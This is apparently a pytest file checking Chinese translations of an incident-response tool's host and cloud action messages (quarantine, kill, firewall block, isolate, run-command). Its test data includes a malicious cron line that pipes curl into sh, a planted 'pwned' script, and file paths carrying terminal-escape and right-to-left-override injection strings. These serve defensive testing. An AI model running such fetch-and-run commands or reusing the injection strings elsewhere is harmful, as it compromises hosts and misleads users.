"""Chinese response-action texts: the catalog is well-formed; the sentences real plans and
results write (host actions on this machine, cloud actions against the loopback emulator) all
come out in Chinese in the fields the console translates (a plan's subject, steps' ``what`` and
warnings; a result's summary, verification and state); host values inside them come through
verbatim; what the catalog does not know stays English; the exact commands are never translated
and the English rendering is unchanged."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest

from backends.audit_log import AuditLog
from backends.cloud import actions as cloud_actions
from backends.cloud.aliyun import AliyunProvider
from backends.hostactions.base import ActionContext
from backends.hostactions.registry import get
from backends.hostactions.runner import run_action
from backends.hostexec_local import LocalExec
from domain.actions import (
    ActionPlan,
    ActionResult,
    Outcome,
    PlannedStep,
    Risk,
    render_plan,
    render_result,
)
from domain.explanations import (
    ACTION_TEXTS,
    EXPLANATIONS,
    SHARED_KEY,
    action_text_in,
    explanation_in,
    load_catalog,
    parse_catalog,
    translate,
)
from domain.hostexec import HostExec
from domain.sanitize import visible
from screens.action import plan_text, result_text
from tests import test_cloud_aliyun as aliyun
from tests import test_host_accounts as accounts_tests
from tests import test_host_firewall as firewall_tests
from tests.planted import Planted
from tests.test_host_process_actions import watchdog_tree

pytestmark = pytest.mark.usefixtures("loopback_only")

# Fixtures shared with the tests of the actions themselves (an account created with useradd and
# removed after; a network namespace; the Aliyun emulator with its instances).
account = accounts_tests.account
netns = firewall_tests.netns
emu, world, provider = aliyun.emu, aliyun.world, aliyun.provider

CJK = re.compile(r"[\u4e00-\u9fff]")
HOST_ACTION_IDS = frozenset(
    {
        "freeze", "resume", "kill", "collect", "bundle", "block", "unblock", "lock-user",
        "unlock-user", "remove-key", "disable", "restore", "quarantine", "restore-file", "scan",
    }
)  # fmt: skip
CLOUD_ACTION_IDS = frozenset(cloud_actions.CLOUD_ACTIONS)


def fields(plan: ActionPlan, result: ActionResult | None = None) -> list[tuple[str, str]]:
    """(which field, its English) for every sentence the console translates."""
    out = [("subject", plan.subject)]
    out += [(f"step {n} what", s.what) for n, s in enumerate(plan.steps, 1)]
    out += [(f"warning {n}", w) for n, w in enumerate(plan.warnings, 1)]
    if result is not None:
        out += [
            (name, text)
            for name, text in (
                ("summary", result.summary),
                ("verification", result.verification),
                ("state", result.state),
            )
            if text
        ]
    return out


def assert_chinese(plan: ActionPlan, result: ActionResult | None = None) -> int:
    """Every translated field of ``plan`` (and ``result``) is Chinese; returns how many."""
    checked = fields(plan, result)
    for where, text in checked:
        zh = action_text_in(plan.action, text, "zh")
        assert zh != text and CJK.search(zh), f"{plan.action} {where} stays English: {text!r}"
    assert_rendering(plan, result)
    return len(checked)


def assert_rendering(plan: ActionPlan, result: ActionResult | None) -> None:
    """The screen shows the Chinese, keeps every exact command verbatim, and its English
    rendering is the English text as it was."""
    zh, en = plan_text(plan, "zh").plain, plan_text(plan, "en").plain
    assert action_text_in(plan.action, plan.subject, "zh") in zh
    assert plan.subject in en
    for step in plan.steps:
        assert visible(step.exact) in zh and visible(step.exact) in en
        assert visible(step.what) in en
        assert action_text_in(plan.action, step.what, "zh") in zh
    for warning in plan.warnings:
        assert visible(warning) in en
    if result is not None:
        zh_r, en_r = result_text(plan, result, "zh").plain, result_text(plan, result, "en").plain
        assert visible(result.summary) in en_r
        assert visible(action_text_in(plan.action, result.summary, "zh")) in zh_r
        if result.verification:
            assert visible(result.verification) in en_r


# -- (1) the catalog -----------------------------------------------------------------------------


def test_catalog_loads_patterns_compile_and_keys_are_action_ids() -> None:
    cat = load_catalog(ACTION_TEXTS)
    assert len(cat.entries) >= 150
    known = HOST_ACTION_IDS | CLOUD_ACTION_IDS | {SHARED_KEY}
    for entry in cat.entries:
        assert entry.rule in known, entry.rule
        assert CJK.search(entry.phrase.zh), entry
        if entry.phrase.pattern is not None:
            assert entry.phrase.pattern.groupindex  # a pattern without groups should be `en`
            assert entry.phrase.pattern.flags & re.DOTALL  # host text may hold newlines
    for phrases in cat.phrase_sets.values():
        assert all(zh.strip() and not zh.isascii() for zh in phrases.exact.values())
    required = {
        "freeze", "resume", "kill", "collect", "block", "unblock", "quarantine", "lock-user",
        "scan", "snapshot", "isolate", "unisolate", "stop", "force-stop", "start", "reboot",
        "run-command",
    }  # fmt: skip
    assert required <= {e.rule for e in cat.entries}
    # the explanations' catalog is a separate one, still loaded the way it was
    assert load_catalog(ACTION_TEXTS) is cat
    assert load_catalog().entries == load_catalog(EXPLANATIONS).entries != cat.entries


@pytest.mark.parametrize(
    "bad",
    [
        '[[text]]\naction = "x"\npattern = "(unclosed"\nzh = "中"',
        '[[text]]\naction = "x"\npattern = "(?P<a>.+)"\nzh = "{b}"',
        '[[text]]\naction = "x"\npattern = "(?P<a>.+)"\nzh = "{a}"\nphrases = { a = "no" }',
        '[[text]]\nrule = "x"\nen = "a"\nzh = "中"',  # keyed by action, not rule
        '[[text]]\naction = "x"\nen = "a"',
        "text = 3\n",
    ],
)
def test_malformed_action_catalogs_fail_when_loaded(bad: str) -> None:
    with pytest.raises(ValueError):
        parse_catalog(bad, ACTION_TEXTS)


# -- (2) real plans and results on this machine -------------------------------------------------


@pytest.fixture
def audit(tmp_path: Path) -> AuditLog:
    return AuditLog(tmp_path / "audit.jsonl")


def context(host: HostExec, tmp_path: Path) -> ActionContext:
    return ActionContext(exec=host, evidence_dir=tmp_path / "evidence", incident="IR-1")


async def yes(plan: ActionPlan) -> bool:
    return True


async def no(plan: ActionPlan) -> bool:
    return False


async def test_process_actions_read_in_chinese(
    planted: Planted, tmp_path: Path, audit: AuditLog
) -> None:
    _loop, worker, _kds = watchdog_tree(planted)
    ctx = context(LocalExec("this-machine"), tmp_path)
    params = {"pid": str(worker)}
    checked = 0
    for action_id, extra, confirm, dry_run, outcome in [
        ("freeze", {}, yes, True, Outcome.DRY_RUN),
        ("freeze", {}, no, False, Outcome.CANCELLED),
        ("freeze", {}, yes, False, Outcome.DONE),
        ("resume", {}, yes, False, Outcome.DONE),
        ("kill", {}, yes, False, Outcome.FAILED),  # no evidence yet: refused
        ("collect", {}, yes, False, Outcome.DONE),
        ("kill", {}, yes, False, Outcome.DONE),
    ]:
        plan, result = await run_action(
            get(action_id), ctx, {**params, **extra}, confirm=confirm, dry_run=dry_run, audit=audit
        )
        assert result.outcome is outcome, (action_id, result)
        checked += assert_chinese(plan, result)
        if action_id == "freeze" and outcome is Outcome.DONE:
            whats = [action_text_in("freeze", s.what, "zh") for s in plan.steps]
            assert any("看护父进程" in w for w in whats)
            assert plan.warnings == ()
        if action_id == "kill" and outcome is Outcome.FAILED:
            zh = action_text_in("kill", result.summary, "zh")
            assert zh.startswith("无法规划 kill：") and str(ctx.evidence_dir) in zh
    assert checked >= 30


async def test_kill_warnings_read_in_chinese(planted: Planted, tmp_path: Path) -> None:
    _loop, worker, _kds = watchdog_tree(planted)
    ctx = context(LocalExec("this-machine"), tmp_path)
    plan = await get("kill").plan(ctx, {"pid": str(worker), "skip_evidence": "yes"})
    assert len(plan.warnings) == 2  # evidence skipped, tree not frozen
    assert_chinese(plan)


async def test_quarantine_of_an_odd_path_reads_in_chinese(tmp_path: Path, audit: AuditLog) -> None:
    folder = tmp_path / "odd dir [red]"
    folder.mkdir()
    odd = folder / "evil (1) {0}.sh"
    odd.write_bytes(b"#!/bin/sh\necho pwned\n")
    ctx = context(LocalExec("this-machine"), tmp_path)
    params = {"path": str(odd), "quarantine_root": str(tmp_path / "q")}
    plan, result = await run_action(
        get("quarantine"), ctx, params, confirm=yes, dry_run=False, audit=audit
    )
    assert result.outcome is Outcome.DONE, result
    assert_chinese(plan, result)
    subject = action_text_in("quarantine", plan.subject, "zh")
    summary = action_text_in("quarantine", result.summary, "zh")
    assert subject.startswith(str(odd) + "（") and summary.startswith(f"已隔离 {odd}，")


async def test_scan_without_clamav_reads_in_chinese(tmp_path: Path, audit: AuditLog) -> None:
    target = tmp_path / "a file with spaces"
    target.write_text("x")
    ctx = context(LocalExec("this-machine"), tmp_path)
    plan, result = await run_action(
        get("scan"),
        ctx,
        {"paths": shlex.quote(str(target))},
        confirm=yes,
        dry_run=False,
        audit=audit,
    )
    assert plan.steps and result.outcome in (Outcome.DONE, Outcome.FAILED), result
    assert_chinese(plan, result)
    assert str(target) in action_text_in("scan", plan.subject, "zh")


async def test_lock_and_unlock_user_read_in_chinese(
    account: str, tmp_path: Path, audit: AuditLog
) -> None:
    ctx = context(LocalExec("this-machine"), tmp_path)
    plan, result = await run_action(
        get("lock-user"), ctx, {"user": account}, confirm=yes, dry_run=False, audit=audit
    )
    assert result.outcome is Outcome.DONE, result
    assert assert_chinese(plan, result) >= 5
    assert action_text_in("lock-user", result.summary, "zh") == f"已锁定 {account} 并使其过期"
    assert result.undo is not None
    plan, result = await run_action(
        get(result.undo[0]), ctx, dict(result.undo[1]), confirm=yes, dry_run=False, audit=audit
    )
    assert result.outcome is Outcome.DONE, result
    assert_chinese(plan, result)


@pytest.mark.parametrize("backend", ["nft", "iptables"])
async def test_host_firewall_block_and_unblock_read_in_chinese(
    backend: str, netns: firewall_tests.Netns, tmp_path: Path, audit: AuditLog
) -> None:
    binary = firewall_tests.NFT_BIN if backend == "nft" else firewall_tests.IPT_BIN
    if binary is None:
        pytest.skip(f"{backend} is not installed")
    ctx = context(firewall_tests.NetnsExec(netns), tmp_path)
    params = {"address": firewall_tests.V4_BLOCKED, "backend": backend}
    plan, result = await run_action(
        get("block"), ctx, params, confirm=yes, dry_run=False, audit=audit
    )
    assert result.outcome is Outcome.DONE, result
    assert assert_chinese(plan, result) >= 5
    assert result.undo is not None
    plan, result = await run_action(
        get("unblock"), ctx, dict(result.undo[1]), confirm=yes, dry_run=False, audit=audit
    )
    assert result.outcome is Outcome.DONE, result
    assert_chinese(plan, result)
    # nothing left to unblock: the refusal reads in Chinese too
    plan, result = await run_action(
        get("unblock"), ctx, params, confirm=yes, dry_run=False, audit=audit
    )
    assert result.outcome is Outcome.FAILED
    assert_chinese(plan, result)


# -- (3) real cloud plans and results (the Aliyun emulator on loopback) -------------------------


def test_cloud_actions_read_in_chinese(world: aliyun.World, provider: AliyunProvider) -> None:
    web1 = world.web1
    checked: dict[str, int] = {}

    def check(action: str, **params: str) -> ActionResult:
        plan, result, _lines = aliyun.run(provider, action, web1, **params)
        assert result.outcome is Outcome.DONE, (action, result)
        checked[action] = assert_chinese(plan, result)
        return result

    check("snapshot")
    isolated = check("isolate", operator=aliyun.OPERATOR)
    assert isolated.undo is not None
    check("unisolate", **{k: str(v) for k, v in isolated.undo[1].items() if k != "instance_id"})
    check("block", cidr="198.51.100.7")
    check("unblock", cidr="198.51.100.7")
    check("run-command", script="echo one\necho two", timeout="30")
    check("reboot")
    check("stop")
    check("start")
    force = cloud_actions.plan(provider, "force-stop", web1, {})
    checked["force-stop"] = assert_chinese(force)
    assert set(checked) == {
        "snapshot", "isolate", "unisolate", "block", "unblock", "run-command", "reboot", "stop",
        "start", "force-stop",
    }  # fmt: skip
    assert sum(checked.values()) >= 40


def test_cloud_snapshot_plan_keeps_ids_and_calls_verbatim(
    world: aliyun.World, provider: AliyunProvider
) -> None:
    plan = cloud_actions.plan(provider, "snapshot", world.web1, {})
    disks = provider.disks(world.web1)
    zh = plan_text(plan, "zh").plain
    for disk, step in zip(disks, plan.steps, strict=True):
        assert disk.id in action_text_in("snapshot", step.what, "zh")
        assert step.exact in zh  # the API call, literally
    assert {"为系统盘", "为数据盘"} <= {
        action_text_in("snapshot", s.what, "zh")[:4] for s in plan.steps
    }


# -- (4) host values stay verbatim, (5) unknown text stays English ------------------------------


def test_host_values_inside_a_sentence_are_kept_verbatim() -> None:
    odd = "/tmp/a b/.x)\u202e[red]{0}\x1b]0;PWN\x07 ;it\nnext line (2) bytes"
    zh = action_text_in("quarantine", f"quarantined {odd} as q-123", "zh")
    assert zh == f"已隔离 {odd}，隔离编号 q-123"
    subject = f"{odd} (12 bytes, sha256 0123456789abcdef...)"
    assert action_text_in("quarantine", subject, "zh") == (
        f"{odd}（12 字节，sha256 0123456789abcdef...）"
    )
    comm = "kd), a tree of 9, 9 watchdog parent(s"
    zh = action_text_in("freeze", f"stop pid 42 ({comm}, child) (SIGSTOP)", "zh")
    assert zh == f"停止 PID 42（{comm}，子进程）（SIGSTOP）"
    braces = "{user} {0} {{x}}"
    assert action_text_in("lock-user", f"locked and expired {braces}", "zh") == (
        f"已锁定 {braces} 并使其过期"
    )
    # a failure reason the catalog does not know is kept, inside a translated frame
    cloud_error = "InvalidInstanceId.NotFound: The specified instance does not exist."
    assert action_text_in("stop", f"stop failed: {cloud_error}", "zh") == (
        f"stop 失败：{cloud_error}"
    )


def test_unknown_text_falls_back_to_english() -> None:
    for action, text in [
        ("freeze", "something entirely new happened"),
        ("custom-action", "froze 3 process(es)"),  # a known sentence of another action
        ("freeze", ""),
        ("freeze", "\x00" * 5000),
        ("freeze", "{}" * 100),
        ("scan", "froze 3 process(es)"),
        ("block", "drop traffic sideways (the host's binary, by absolute path)"),
    ]:
        assert action_text_in(action, text, "zh") == text
    known = "froze 3 process(es)"
    assert action_text_in("freeze", known, "en") == known
    assert action_text_in("freeze", known, "zh") == "已冻结 3 个进程"
    # the shared sentences work for any action, also one the catalog has never heard of
    assert action_text_in("custom-action", "dry run: nothing was done", "zh") == (
        "演练：未做任何操作"
    )
    # odd arguments never raise
    assert action_text_in(None, "x", "zh") == "x"  # type: ignore[arg-type]
    assert action_text_in("freeze", None, "zh") is None  # type: ignore[arg-type]


def test_exact_commands_are_never_translated_and_english_is_unchanged() -> None:
    exact = "killed 3 process(es)"  # a translatable sentence used as a literal command
    plan = ActionPlan(
        action="kill",
        host="web [1]",
        subject="pid 42 (kd), a tree of 3",
        params={"pid": "42"},
        steps=(PlannedStep("verify each is gone (or a zombie)", exact),),
        risk=Risk.IRREVERSIBLE,
        undo=("resume", {"pid": "42"}),
        warnings=("evidence was NOT collected for this pid (skip_evidence=yes)",),
    )
    zh = plan_text(plan, "zh").plain
    assert f"$ {exact}" in zh and "已终止" not in zh and "核实每个进程都已消失" in zh
    assert "PID 42（kd）所在的进程树" in zh and "未采集该 PID 的证据" in zh
    assert "resume pid=42" in zh  # the undo: an action id and parameters, as they are
    en = plan_text(plan, "en").plain
    assert en == plan_text(plan).plain
    for line in (plan.subject, plan.steps[0].what, exact, plan.warnings[0], "web [1]"):
        assert line in en
    assert not CJK.search(en)
    # the model's own renderings stay English whatever the console shows
    assert "pid 42 (kd), a tree of 3" in render_plan(plan) and not CJK.search(render_plan(plan))
    result = ActionResult(
        Outcome.DONE,
        "killed 3 process(es)",
        verification="/proc/PID/stat states: 42:gone, 43:Z, 44:gone",
        details={"output": "killed 3 process(es)"},
    )
    assert not CJK.search(render_result(result))
    zh_result = result_text(plan, result, "zh").plain
    assert "已终止 3 个进程" in zh_result
    assert "/proc/PID/stat 中的状态：42:gone, 43:Z, 44:gone" in zh_result
    en_result = result_text(plan, result, "en").plain
    assert "killed 3 process(es)" in en_result and not CJK.search(en_result)


def test_explanations_still_translate_as_before() -> None:
    known = "A network scanner is running; infected servers scan for the next victims."
    assert CJK.search(explanation_in("PROC-SCANNER", known, "zh"))
    # the two catalogs do not leak into each other
    assert translate(load_catalog(), SHARED_KEY, "nothing was done") is None
    assert translate(load_catalog(ACTION_TEXTS), "PROC-SCANNER", known) is None


# -- (6) the sentences of paths the real runs above do not reach, as the backends build them ----

OTHER_SENTENCES = [
    ("freeze", "froze 5 process(es) (2 appeared meanwhile)"),
    ("freeze", "stopped the tree, but 1 process(es) are not in state T"),
    ("freeze", "not stopped: 42, 43"),
    ("resume", "2 process(es) are still stopped"),
    ("resume", "still stopped: 42"),
    ("kill", "1 process(es) are still alive after SIGKILL"),
    ("kill", "alive (stopped): 42"),
    ("kill", "kill failed: pid 42 is gone (exited or replaced) since the plan; nothing was "
     "signalled"),
    ("freeze", "freeze was interrupted (CancelledError)"),
    ("freeze", "unknown: the action was interrupted part way; check the host"),
    ("collect", "pid 7 (kthreadd), executable (no executable: a kernel thread?)"),
    ("collect", "collected 6 file(s) for pid 7, but not the executable's hash pair"),
    ("collect", "partial evidence kept in /var/lib/sickbay/IR-1/h/7 (in the manifest)"),
    ("collect", "collected pid 7: the executable's hash DIFFERS between host and copy"),
    ("collect", "MISMATCH: sha256 on the host " + "a" * 64 + ", of the copy " + "b" * 64),
    ("bundle", "copy 12 persistence file(s), at most 1048576 bytes each"),
    ("bundle", "stop at 67108864 bytes in all; hash every file on the bastion, record it"),
    ("bundle", "40 file(s), 123456 bytes listed, 3 symlink(s)"),
    ("bundle", "bundled 37 file(s) from web 1; 3 not copied"),
    ("bundle", "37 file(s) hashed on the bastion and in the manifest"),
    ("bundle", "not copied: 3 (see bundle-index.json)"),
    ("block", "block failed: /usr/sbin/nft 'add table inet sickbay' failed (status 1): Error: "
     "Could not process rule"),
    ("block", "rolled back: /usr/sbin/iptables -w -X SICKBAY -> 0"),
    ("block", "10.0.0.0/8 is already blocked by sickbay (block-1, block-2): this adds another "
     "block"),
    ("block", "0.0.0.0/1 is a very large network"),
    ("block", "this is a loopback network: local services talk over it"),
    ("block", "198.51.100.7/32 may not be fully blocked"),
    ("block", "rules applied but not all read back: check the firewall"),
    ("unblock", "198.51.100.7/32 is still blocked by 2 rule(s)"),
    ("unblock", "left: input handle 4; output handle 5"),
    ("quarantine", "/srv/a b/x (3145728 bytes, 3 MiB, sha256 0123456789abcdef...)"),
    ("quarantine", "the file has 3 hard links: its other names keep the content"),
    ("quarantine", "this is a system path: the host may need this file to work"),
    ("quarantine", "quarantined, but the verification failed"),
    ("quarantine", "gone from its path: yes; sha256 unchanged: NO; mode 000: yes; mtime kept: "
     "yes; fetched over SFTP"),
    ("quarantine", "the file is in /var/lib/sickbay-quarantine/q-1/file"),
    ("lock-user", "sessions and processes already running as bob keep running: freeze/kill "
     "them"),
    ("lock-user", "toor has uid 0: a second root account"),
    ("lock-user", "the password is already locked (only the expiry changes)"),
    ("lock-user", "the password hash is in /etc/passwd, not /etc/shadow"),
    ("lock-user", "bob is not fully locked"),
    ("lock-user", "bob: /etc/shadow: password NOT locked, expiry field '1'"),
    ("lock-user", "bob is probably unchanged: check /etc/shadow"),
    ("scan", "scan /srv/www with clamd (signatures already loaded)"),
    ("scan", "scan every path with clamscan (loads its signatures first: slow to start)"),
    ("scan", "2 infected file(s) found by clamdscan"),
    ("scan", "clamscan: nothing found in 3 path(s)"),
    ("scan", "exit status 1; 0 error(s); 1234 file(s) scanned"),
    ("scan", "clamscan did not finish (status 2)"),
    ("scan", "3 detection(s) before it stopped"),
    ("scan", "none of the paths exists: nothing was scanned"),
    ("snapshot", "snapshot of d-1 failed: Throttling: Request was denied due to request "
     "throttling."),
    ("snapshot", "snapshots started: s-1 of d-1; not snapshotted: d-2"),
    ("snapshot", "snapshot(s) failed: s-1, s-2"),
    ("snapshot", "the failed snapshots hold no usable copy; the others: see progress"),
    ("snapshot", "snapshots started, not finished yet"),
    ("snapshot", "the snapshots go on in the cloud; check them later"),
    ("snapshot", "snapshot the system disk d-1 (40 GB)"),
    ("isolate", "create the quarantine group sickbay-quarantine-i-1 in the classic network"),
    ("isolate", "remove a rule the quarantine group should not have: ingress accept tcp/80 "
     "from 0.0.0.0/0 (priority 1)"),
    ("isolate", "group sg-9 is called 'x', not 'sickbay-quarantine-i-1': not used"),
    ("isolate", "group sg-9 is in vpc-2, not vpc-1: not used"),
    ("isolate", "group sg-9 is also used by i-2, i-3: not used"),
    ("isolate", "i-1 into its own quarantine group sg-9 (existing)"),
    ("isolate", "the instance's groups changed since the plan: plan again"),
    ("isolate", "nothing was changed; i-1 is in sg-1, sg-2"),
    ("isolate", "the quarantine group sg-9 is now used by i-2: plan again"),
    ("isolate", "nothing was changed; i-1 is in its original groups"),
    ("isolate", "isolate failed while preparing the quarantine group: the quarantine group's "
     "rules read back wrong: missing ingress drop all/all from 0.0.0.0/0 (priority 100)"),
    ("isolate", "i-1 was not touched: still in its original groups sg-1, sg-2; quarantine "
     "group sg-9 (created), left in place (owned by this instance only)"),
    ("isolate", "i-1 was not touched: still in its original groups sg-1; no quarantine group "
     "created, left in place (owned by this instance only)"),
    ("isolate", "read back: i-1 is in sg-9 only; the group has the 3 quarantine rules (the "
     "call reported timed out, but the change is there)"),
    ("isolate", "isolate failed moving i-1 into sg-9: read back sg-1, sg-2"),
    ("isolate", "rolled back: i-1 is in its original groups sg-1, sg-2; quarantine group sg-9 "
     "left in place"),
    ("isolate", "rolling back to sg-1 failed (boom); i-1's groups: unknown (could not be "
     "read); quarantine group sg-9 left in place"),
    ("isolate", "rollback to sg-1 not confirmed; i-1's groups: sg-9; quarantine group sg-9 "
     "left in place"),
    ("isolate", "i-1 is still in its original groups sg-1; quarantine group sg-9 left in place"),
    ("unisolate", "this reconnects a host that was compromised: make sure it is clean first"),
    ("unisolate", "the quarantine group sg-9 is kept (the next isolate reuses it)"),
    ("unisolate", "i-1 is not in its quarantine group now but in sg-1"),
    ("unisolate", "restoring the groups failed: boom"),
    ("unisolate", "i-1's groups: sg-9"),
    ("block", "sg-1 is shared with 2 other instance(s) (i-2, i-3): the block applies to them "
     "too"),
    ("block", "block of 1.2.3.4/32: rules could not be read back (boom)"),
    ("block", "added to sg-1: ingress drop all/all from 1.2.3.4/32 (priority 1)"),
    ("block", "block of 1.2.3.4/32 incomplete: boom"),
    ("block", "in sg-1: no block rule"),
    ("unblock", "unblock of 1.2.3.4/32 incomplete: rules still there"),
    ("unblock", "block rules left: sg-1: ingress drop all/all from 1.2.3.4/32 (priority 1)"),
    ("force-stop", "force the instance off (like pulling the plug)"),
    ("force-stop", "i-1 stopped"),
    ("reboot", "i-1 rebooted"),
    ("reboot", "read back: running -> rebooting -> running (the call reported timed out, but "
     "the state changed)"),
    ("stop", "i-1 is stopped now: not stopped"),
    ("stop", "nothing was changed; i-1 is stopped"),
    ("stop", "stop requested, not stopped after 300 s"),
    ("stop", "stop requested, cancelled"),
    ("stop", "i-1 is stopping"),
    ("start", "i-1 running"),
    ("run-command", "run-command failed: InvalidInstance.NotRunning"),
    ("run-command", "the command may not have started (see the provider's console)"),
    ("run-command", "invocation t-1 still running (wait cancelled)"),
    ("run-command", "the command may still be running on i-1"),
    ("run-command", "invocation t-1: failed"),
    ("run-command", "the command did not finish (failed)"),
    ("run-command", "the script, in full"),
    ("snapshot", "changes were made (see the request ids); the state could not be read back"),
    ("snapshot", "nothing was changed"),
    ("remove-key", "key SHA256:abc (line 3, evil@x) from /root/.ssh/authorized_keys"),
    ("remove-key", "removed key SHA256:abc from /root/.ssh/authorized_keys"),
    ("remove-key", "the key is gone: yes; every other line byte-identical: yes; owner and mode "
     "kept: yes; fetched"),
    ("disable", "cron line 3 of /etc/crontab: * * * * * root curl x|sh"),
    ("disable", "systemd unit evil.service (2 process(es) running)"),
    ("disable", "stop and disable it (the host's systemctl, by absolute path)"),
    ("disable", "disabled evil.service"),
    ("disable", "verify: the file now hashes as expected (only that line changed)"),
    ("restore-file", "/tmp/a b from quarantine q-1"),
    ("restore-file", "sha256: same; owner: same; mode: DIFFERS; mtime: same"),
    ("restore-file", "restored /tmp/a b"),
]  # fmt: skip


@pytest.mark.parametrize(("action", "text"), OTHER_SENTENCES)
def test_other_sentences_translate(action: str, text: str) -> None:
    zh = action_text_in(action, text, "zh")
    assert zh != text and CJK.search(zh), (action, text, zh)
